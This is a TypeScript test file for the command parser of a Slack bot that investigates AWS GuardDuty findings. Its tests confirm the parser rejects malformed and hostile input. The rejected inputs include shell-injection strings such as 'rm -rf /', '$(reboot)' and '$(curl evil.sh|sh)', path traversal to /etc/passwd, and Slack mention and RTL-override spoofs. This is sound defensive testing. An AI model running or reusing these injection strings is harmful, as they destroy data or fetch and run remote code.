import { describe, expect, it } from 'vitest';
import { LOG_PRESETS } from '../../../../src/domain/investigation';
import { helpText } from '../../../../src/slack/commands/helpText';
import { parseCommand, parseDuration } from '../../../../src/slack/commands/parseCommand';

const INSTANCE = 'i-0a1b2c3d4e5f60718';
const DAY = 86_400_000;
const HOUR = 3_600_000;

/** What every usage problem must be: bounded, one line, and harmless once help escapes it. */
const expectSafeProblem = (problem: string): void => {
  expect(problem.length).toBeLessThan(600);
  expect(problem).not.toMatch(/[\p{Cc}\u202e]/u);
  expect(helpText(problem)).not.toMatch(/<!(?:channel|here|everyone)>|<@U/);
};

const problemOf = (text: string): string => {
  const parsed = parseCommand(text);
  if (parsed.kind !== 'usage')
    throw new Error(
      `expected a usage answer for ${JSON.stringify(text.slice(0, 80))}, got ${parsed.kind}`
    );
  return parsed.problem;
};

describe('Function: parseCommand', () => {
  it.each([
    ['suppressions', { kind: 'suppressions' }],
    ['suppressions all', { kind: 'usage', problem: '`suppressions` takes no arguments.' }],
  ])('parses "%s"', (text, expected) => {
    // Act & Assess
    expect(parseCommand(text)).toStrictEqual(expected);
  });

  it.each([
    ['', { kind: 'help' }],
    ['help', { kind: 'help' }],
    ['  HELP  ', { kind: 'help' }],
    [
      'finding 8cc4f1f7b2a64e0f9d1b3a5c7e9f0a12',
      { kind: 'finding', findingId: '8cc4f1f7b2a64e0f9d1b3a5c7e9f0a12' },
    ],
    [
      'finding arn:aws:guardduty:us-west-2:123456789012:detector/d/finding/f',
      {
        kind: 'finding',
        findingId: 'arn:aws:guardduty:us-west-2:123456789012:detector/d/finding/f',
      },
    ],
    [
      'report 8cc4f1f7b2a64e0f9d1b3a5c7e9f0a12',
      { kind: 'report', findingId: '8cc4f1f7b2a64e0f9d1b3a5c7e9f0a12' },
    ],
  ])('parses "%s"', (text, expected) => {
    // Act & Assess
    expect(parseCommand(text)).toStrictEqual(expected);
  });

  it.each([
    ['finding', 'exactly one finding id'],
    ['finding a b', 'exactly one finding id'],
    ['finding <!channel>', 'does not look like a finding id'],
    ['finding ../../etc/passwd', 'does not look like a finding id'],
    [`finding ${'a'.repeat(600)}`, 'does not look like a finding id'],
    ['report', '`report` takes exactly one finding id'],
    ['report <@U123>', 'does not look like a finding id'],
    ['isolate i-123', 'Unknown subcommand `isolate`'],
    [`${'x'.repeat(100)}`, `Unknown subcommand \`${'x'.repeat(30)}\``],
  ])('answers "%s" with a usage problem', (text, problem) => {
    // Act
    const parsed = parseCommand(text);

    // Assess
    expect(parsed.kind).toBe('usage');
    expect(parsed.kind === 'usage' && parsed.problem).toContain(problem);
  });

  describe('logs', () => {
    it.each([
      [
        `logs ${INSTANCE}`,
        {
          kind: 'logs',
          target: { type: 'instance', instanceId: INSTANCE },
          filter: { type: 'preset', preset: 'ssh' },
          since: { text: '24h', ms: 24 * HOUR },
          share: false,
        },
      ],
      [
        `logs ${INSTANCE} ssh-failed --since 7d --share`,
        {
          kind: 'logs',
          target: { type: 'instance', instanceId: INSTANCE },
          filter: { type: 'preset', preset: 'ssh-failed' },
          since: { text: '7d', ms: 7 * DAY },
          share: true,
        },
      ],
      [
        'logs /var/log/secure ssh-accepted --since=30m',
        {
          kind: 'logs',
          target: { type: 'logGroup', logGroupName: '/var/log/secure' },
          filter: { type: 'preset', preset: 'ssh-accepted' },
          since: { text: '30m', ms: 30 * 60_000 },
          share: false,
        },
      ],
      [
        'logs i-0A1B2C3D logs --share',
        {
          kind: 'logs',
          target: { type: 'instance', instanceId: 'i-0a1b2c3d' },
          filter: { type: 'pattern', pattern: 'logs' },
          since: { text: '24h', ms: 24 * HOUR },
          share: true,
        },
      ],
      [
        'logs /var/log/secure [Mon, day, timestamp, ip, id, msg1= Invalid, msg2 = user, ...] --since 30d',
        {
          kind: 'logs',
          target: { type: 'logGroup', logGroupName: '/var/log/secure' },
          filter: {
            type: 'pattern',
            pattern: '[Mon, day, timestamp, ip, id, msg1= Invalid, msg2 = user, ...]',
          },
          since: { text: '30d', ms: 30 * DAY },
          share: false,
        },
      ],
      [
        'logs /var/log/secure ?"Invalid user"  ?"Failed password"',
        {
          kind: 'logs',
          target: { type: 'logGroup', logGroupName: '/var/log/secure' },
          filter: { type: 'pattern', pattern: '?"Invalid user"  ?"Failed password"' },
          since: { text: '24h', ms: 24 * HOUR },
          share: false,
        },
      ],
      [
        // Slack sends what the user typed as &, < and > encoded.
        'logs /app/json { $.latency &gt; 500 &amp;&amp; $.status = "5*" }',
        {
          kind: 'logs',
          target: { type: 'logGroup', logGroupName: '/app/json' },
          filter: { type: 'pattern', pattern: '{ $.latency > 500 && $.status = "5*" }' },
          since: { text: '24h', ms: 24 * HOUR },
          share: false,
        },
      ],
      [
        // Phones type curly quotes and turn -- into an em dash.
        `logs ${INSTANCE} “Failed password” —since 2h`,
        {
          kind: 'logs',
          target: { type: 'instance', instanceId: INSTANCE },
          filter: { type: 'pattern', pattern: '"Failed password"' },
          since: { text: '2h', ms: 2 * HOUR },
          share: false,
        },
      ],
      [
        'logs /var/log/secure "пароль неверный" ERROR -DEBUG',
        {
          kind: 'logs',
          target: { type: 'logGroup', logGroupName: '/var/log/secure' },
          filter: { type: 'pattern', pattern: '"пароль неверный" ERROR -DEBUG' },
          since: { text: '24h', ms: 24 * HOUR },
          share: false,
        },
      ],
      [
        'LOGS /var/log/secure "say \\"hi\\" [" --since 1m',
        {
          kind: 'logs',
          target: { type: 'logGroup', logGroupName: '/var/log/secure' },
          filter: { type: 'pattern', pattern: '"say \\"hi\\" ["' },
          since: { text: '1m', ms: 60_000 },
          share: false,
        },
      ],
    ])('parses "%s"', (text, expected) => {
      // Act & Assess
      expect(parseCommand(text)).toStrictEqual(expected);
    });

    it('recognizes every preset by name', () => {
      // Act & Assess
      for (const preset of Object.keys(LOG_PRESETS)) {
        expect(parseCommand(`logs ${INSTANCE} ${preset}`)).toMatchObject({
          filter: { type: 'preset', preset },
        });
      }
    });

    it.each([
      ['logs', '`logs` needs an instance id or a log group.'],
      ['logs i-123', '`i-123` is not a valid instance id (`i-` and 8 or 17 hex digits).'],
      ['logs i-0a1b2c3d4e5f6071', 'is not a valid instance id'],
      ['logs i-zzzzzzzz', 'is not a valid instance id'],
      ['logs <!channel>', 'Mentions, channels and links are not allowed in arguments.'],
      ['logs /var/log/secure <@U123ABC>', 'Mentions, channels and links are not allowed'],
      ['logs <https://evil.example|click>', 'Mentions, channels and links are not allowed'],
      ['logs &lt;!channel&gt;', '`<!channel>` is neither an instance id nor a log group name'],
      ['logs arn:aws:logs:us-west-2:123456789012:log-group:/var/log/secure', 'by name'],
      ['logs /var/log/secure;rm -rf /', 'is neither an instance id nor a log group name'],
      ['logs $(reboot)', 'is neither an instance id nor a log group name'],
      ['logs `id`', 'is neither an instance id nor a log group name'],
      [`logs /${'a'.repeat(600)}`, 'is neither an instance id nor a log group name'],
      ['logs /var/log/secure --since 999d', '`--since` is at most 30d; got `999d`.'],
      ['logs /var/log/secure --since 31d', '`--since` is at most 30d'],
      ['logs /var/log/secure --since 721h', '`--since` is at most 30d'],
      ['logs /var/log/secure --since -5h', '`--since` must be positive, not `-5h`.'],
      ['logs /var/log/secure --since 0m', '`--since` must be at least 1m.'],
      ['logs /var/log/secure --since 24', 'takes a whole number and a unit (m, h or d)'],
      ['logs /var/log/secure --since 1.5h', 'takes a whole number and a unit'],
      ['logs /var/log/secure --since 2w', 'takes a whole number and a unit'],
      ['logs /var/log/secure --since 99999999999d', 'takes a whole number and a unit'],
      ['logs /var/log/secure --since', '`--since` needs a value'],
      ['logs /var/log/secure --since --share', '`--since` needs a value'],
      ['logs /var/log/secure --since 1h --since 2h', '`--since` is given twice.'],
      ['logs /var/log/secure --share --share', '`--share` is given twice.'],
      ['logs /var/log/secure --share=yes', '`--share` takes no value.'],
      ['logs /var/log/secure --until 1h', 'Unknown flag `--until`. Flags: --since, --share.'],
      ['logs /var/log/secure --', 'is not a flag this command knows'],
      ['logs /var/log/secure ERROR --since 1h WARN', 'Put the flags after the filter pattern'],
      ['logs /var/log/secure "Failed password', 'Unclosed `"` at `"Failed password`.'],
      ['logs /var/log/secure [a, b', 'Unclosed `[` at `[a, b`.'],
      ['logs /var/log/secure [a, b}', 'Unbalanced `}` at `}`.'],
      ['logs /var/log/secure { $.a = 1 ]', 'Unbalanced `]`'],
      ['logs /var/log/secure ]', 'Unbalanced `]`'],
      [`logs /var/log/secure "${'x'.repeat(1100)}"`, 'CloudWatch Logs allows 1024'],
      [`logs /var/log/secure ${'x'.repeat(10_240)}`, 'The command is too long'],
      ['logs /var/log/secure "a\u0000b"', 'Control characters'],
      ['logs /var/log/secure "a\nb"', 'Control characters'],
      ['logs /var/log/secure "a\tb"', 'Control characters'],
      ['logs /var/log/secure "abc\u202egnp.exe"', 'Control characters'],
      ['logs /var/log/secure "\ud800"', 'Control characters'],
    ])('answers "%s" with a precise usage problem', (text, problem) => {
      // Act
      const answer = problemOf(text);

      // Assess
      expect(answer).toContain(problem);
      expect(answer).toContain('Usage: `/guardduty logs');
      expectSafeProblem(answer);
    });

    it('accepts a pattern of exactly 1024 characters', () => {
      // Prepare
      const pattern = `"${'x'.repeat(1022)}"`;

      // Act & Assess
      expect(parseCommand(`logs /var/log/secure ${pattern}`)).toMatchObject({
        filter: { type: 'pattern', pattern },
      });
    });
  });

  describe('hub', () => {
    it.each([
      [`hub ${INSTANCE}`, { type: 'instance', instanceId: INSTANCE }],
      [
        'hub arn:aws:ec2:us-west-2:123456789012:instance/i-0a1b2c3d4e5f60718',
        { type: 'arn', arn: 'arn:aws:ec2:us-west-2:123456789012:instance/i-0a1b2c3d4e5f60718' },
      ],
      ['hub arn:aws:s3:::example-bucket', { type: 'arn', arn: 'arn:aws:s3:::example-bucket' }],
      [
        'hub arn:aws-us-gov:iam::123456789012:role/path/web-role',
        { type: 'arn', arn: 'arn:aws-us-gov:iam::123456789012:role/path/web-role' },
      ],
      ['hub AKIAIOSFODNN7EXAMPLE', { type: 'accessKey', accessKeyId: 'AKIAIOSFODNN7EXAMPLE' }],
      ['hub 203.0.113.45', { type: 'ip', ip: '203.0.113.45', version: 4 }],
      ['hub 2001:DB8::1', { type: 'ip', ip: '2001:db8::1', version: 6 }],
      ['hub ::ffff:203.0.113.45', { type: 'ip', ip: '::ffff:203.0.113.45', version: 6 }],
      ['  HUB   198.51.100.7  ', { type: 'ip', ip: '198.51.100.7', version: 4 }],
    ])('parses "%s"', (text, subject) => {
      // Act & Assess
      expect(parseCommand(text)).toStrictEqual({ kind: 'hub', subject });
    });

    it.each([
      ['hub', 'takes exactly one instance id, ARN, access key id or IP address'],
      [`hub ${INSTANCE} 203.0.113.45`, 'takes exactly one'],
      ['hub i-12345', 'is not a valid instance id'],
      ['hub 203.0.113.256', '`203.0.113.256` is not a valid IPv4 address.'],
      ['hub 203.0.113', 'is not a valid IPv4 address'],
      ['hub 010.0.0.1', 'is not a valid IPv4 address'],
      ['hub 203.0.113.0/24', 'a single IP address, not a CIDR range'],
      ['hub 2001:db8::1::2', 'is not a valid IPv6 address'],
      ['hub fe80::1%eth0', 'is not an instance id, ARN, access key id or IP address'],
      ['hub 12345::', 'is not a valid IPv6 address'],
      ['hub arn:aws:ec2', 'is not a valid ARN'],
      ['hub arn:aws:ec2:us-west-2:12345:instance/i-1', 'is not a valid ARN'],
      ['hub arn:evil:ec2:us-west-2:123456789012:instance/i-1', 'is not a valid ARN'],
      ['hub arn:aws:ec2:us-west-2:123456789012:instance/"x"', 'is not a valid ARN'],
      ['hub AKIA123', 'is not a valid access key id'],
      ['hub example.com', 'is not an instance id, ARN, access key id or IP address'],
      ['hub <!here>', 'Mentions, channels and links are not allowed'],
      ['hub ../../etc/passwd', 'is not an instance id'],
      ['hub $(curl evil.sh|sh)', '`$(curl evil.sh|sh)` is not an instance id'],
      ['hub $(curl evil.sh', 'Unclosed `(` at `(curl evil.sh`.'],
      ['hub 203.0.113.45 --share', 'Unknown flag `--share`. This command takes no flags.'],
      [`hub ${'é'.repeat(5000)}`, 'The command is too long'],
      ['hub 🙂🙂🙂', 'is not an instance id'],
    ])('answers "%s" with a precise usage problem', (text, problem) => {
      // Act
      const answer = problemOf(text);

      // Assess
      expect(answer).toContain(problem);
      expect(answer).toContain('Usage: `/guardduty hub');
      expectSafeProblem(answer);
    });
  });

  it('never throws, whatever it is given', () => {
    // Prepare
    const hostile = [
      '<!channel>',
      '<!everyone> logs',
      'logs <@U0123|alice>',
      `logs ${'['.repeat(5000)}`,
      `logs /g ${'"'.repeat(3001)}`,
      `logs /g ${'\\'.repeat(2001)}`,
      `hub ${':'.repeat(2000)}`,
      `logs /g --since ${'9'.repeat(400)}d`,
      'logs /g `rm -rf /` ; | && $(x) > /dev/null',
      'logs i-0a1b2c3d --since=-1h',
      '\u0000\u0001\u0002',
      'logs \ud83d',
      'hub \u202e54.311.0.302',
      'x'.repeat(10_240),
      `logs ${'🙂'.repeat(3000)}`,
    ];

    for (const text of hostile) {
      // Act
      const parsed = parseCommand(text);

      // Assess
      if (parsed.kind === 'usage') expectSafeProblem(parsed.problem);
    }
  });
});

describe('Function: parseDuration', () => {
  it.each([
    ['1m', 60_000],
    ['90m', 90 * 60_000],
    ['24h', 24 * HOUR],
    ['720h', 30 * DAY],
    ['30d', 30 * DAY],
    ['007d', 7 * DAY],
  ])('reads %s', (text, ms) => {
    // Act & Assess
    expect(parseDuration(text)).toMatchObject({ ms });
  });
});

describe('Function: helpText', () => {
  it('lists every subcommand with an example, and the card buttons', () => {
    // Act
    const text = helpText();

    // Assess
    for (const example of [
      '/guardduty finding 8cc4f1f7b2a64e0f9d1b3a5c7e9f0a12',
      '/guardduty logs i-0a1b2c3d4e5f60718 ssh-accepted --since 7d',
      '/guardduty hub 203.0.113.45',
      '/guardduty report 8cc4f1f7b2a64e0f9d1b3a5c7e9f0a12',
      '/guardduty suppressions',
      '/guardduty help',
    ]) {
      expect(text).toContain(example);
    }
    for (const button of ['Isolate', 'Release', 'Investigate', 'Dismiss', 'Report']) {
      expect(text).toContain(`*${button}*`);
    }
  });
});
